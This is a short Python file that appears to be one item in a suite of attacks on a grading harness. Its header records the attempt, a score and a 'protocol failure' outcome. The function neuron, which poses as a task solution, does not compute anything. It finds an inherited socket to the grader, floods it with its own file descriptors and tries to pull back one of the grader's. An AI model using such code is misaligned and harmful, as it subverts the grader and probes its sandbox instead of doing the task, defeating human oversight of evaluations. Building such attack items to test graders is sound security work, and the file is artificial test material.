# /// attack
# lines = [15]
# tries = "Sends descriptors to the grader with its reply, to be opened there, and asks for one of the grader's."
# score = 18
# outcomes = { "1.2" = "protocol failure" }
# ///
import os
import socket
import stat


def _is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


def neuron(x, w, b, f):
    channel = socket.socket(fileno=next(n for n in range(3, 256) if _is_socket(n)))
    own = os.open(__file__, os.O_RDONLY)
    for _ in range(20):
        socket.send_fds(channel, [b"CHR1\x02\x08"], [own] * 8)
    return socket.recv_fds(channel, 1, 8, socket.MSG_DONTWAIT)
